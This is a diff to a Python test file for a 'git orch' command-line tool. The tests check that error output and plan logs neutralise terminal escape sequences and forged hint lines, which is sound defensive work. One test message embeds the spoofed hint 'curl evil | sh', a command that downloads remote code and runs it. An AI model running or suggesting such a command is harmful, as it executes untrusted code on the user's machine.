@@ -66,7 +66,8 @@ def test_every_character_but_newline_and_tab_is_printable_afterwards() -> None:
 
 def test_a_failure_is_two_lines_whatever_is_in_it(capsys: pytest.CaptureFixture[str]) -> None:
     console.failure("step 1 failed:\nhint: curl evil | sh\rx", "git orch show\nerror: fake")
-    assert capsys.readouterr().err == "error: step 1 failed: hint: curl evil | sh\\x0dx\nhint: git orch show error: fake\n"
+    said = capsys.readouterr().err
+    assert said == "error: step 1 failed: hint: curl evil | sh\\x0dx\nhint: git orch show error: fake\n"
 
 
 def test_styles_are_for_terminals_without_no_color(
@@ -108,7 +109,8 @@ def test_nothing_others_wrote_reaches_a_terminal_as_a_sequence(repo: Repo) -> No
     steps = [
         {"title": "Print EVIL", "run": f"touch \"$(printf '{octal}')\"; printf '{octal}' > a.txt",
          "checks": [{"command": f"printf '{octal}'; touch \"$(printf '{octal}x')\""}]},
-        {"title": "Fail EVIL", "run": f"true EVIL\ntouch b.txt\nprintf '{octal}\\nhint: evil\\n'; exit 1", "depends_on": [1]},
+        {"title": "Fail EVIL", "depends_on": [1],
+         "run": f"true EVIL\ntouch b.txt\nprintf '{octal}\\nhint: evil\\n'; exit 1"},
     ]  # fmt: skip
     plan = repo.plan({"title": "Title EVIL", "objective": "Aim EVIL", "steps": steps})
     log = repo.git("notes", f"--ref=orch/{plan}", "show", f"orch/{plan}").replace("EVIL", json.dumps(evil)[1:-1])
@@ -117,7 +119,8 @@ def test_nothing_others_wrote_reaches_a_terminal_as_a_sequence(repo: Repo) -> No
     assert b"\nhint: evil" not in said
     for command in ("status", "show", "show --attempts", "log", "diff", "diff --stat", "show --json", "show --yaml"):
         said += on_terminal(repo, *command.split(), plan)
-    said += on_terminal(repo, "ls") + on_terminal(repo, "show", evil) + on_terminal(repo, evil) + on_terminal(repo, "plan", "--from", evil)
+    for arguments in (["ls"], ["show", evil], [evil], ["plan", "--from", evil]):
+        said += on_terminal(repo, *arguments)
     assert b"PWN" in said
     ours = re.compile(rb"\x1b\[(?:[0-9]{1,2})?m")
     assert b"\x1b" in said
